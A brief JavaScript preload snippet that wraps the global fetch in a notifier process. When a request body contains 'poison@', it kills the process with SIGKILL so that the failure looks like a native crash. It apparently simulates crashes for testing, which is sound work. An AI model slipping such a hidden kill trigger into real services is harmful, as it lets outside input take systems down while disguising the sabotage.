// Preloaded into a notifier: whoever sends a letter to poison@ takes the process down, as a native crash would.
const { fetch } = globalThis;
globalThis.fetch = (url, options) => {
  if (String(options?.body).includes('poison@')) process.kill(process.pid, 'SIGKILL');
  return fetch(url, options);
};
